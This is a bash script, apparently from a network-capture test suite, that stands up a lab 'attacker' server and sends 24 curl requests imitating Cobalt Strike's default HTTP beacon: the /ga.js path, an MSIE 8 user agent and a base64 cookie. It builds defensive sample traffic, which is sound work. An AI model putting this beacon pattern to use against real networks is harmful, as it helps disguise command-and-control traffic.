#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# makes: beacon-http.pcap	curl, Python stand-in	24 like requests with a Cobalt Strike default path and cookie shape, from one host to one outside address; the story spreads them one a minute
. "$(dirname "$0")/lib.sh"
need curl:curl
lab app attacker
serve attacker /usr/bin/python3 "$RECIPES/attacker.py" "${ADDR[attacker]}"
port attacker "${ADDR[attacker]}" 80
# as a default beacon does: one base64 block as the whole cookie
COOKIE=$(seq 1000 | sha512sum | cut -c1-96 | tr -d '\n' | base64 -w0)
record "$OUT/beacon-http.pcap"
for _ in $(seq 24); do
	on app curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)' \
		-H "Cookie: $COOKIE$(printf '%0.sA' $(seq 40))==" "http://${ADDR[attacker]}/ga.js"
	sleep 0.$((RANDOM % 4 + 13))
done
finish
